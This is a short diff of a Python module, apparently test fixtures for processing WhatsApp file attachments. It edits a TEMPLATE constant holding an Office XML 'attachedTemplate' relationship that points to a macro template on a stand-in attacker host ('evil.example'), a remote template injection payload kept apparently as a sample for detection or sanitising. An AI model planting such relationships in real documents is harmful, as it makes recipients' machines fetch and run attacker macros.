@@ -13,8 +13,6 @@ from whatsapp.files import incoming, kinds, outgoing
 from whatsapp.types import Kind
 
 TEMPLATE = '<Relationship Type="x/attachedTemplate" Target="http://evil.example/t.dotm"/>'
-    '<Relationship Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
-)
 
 
 def protected() -> bytes:
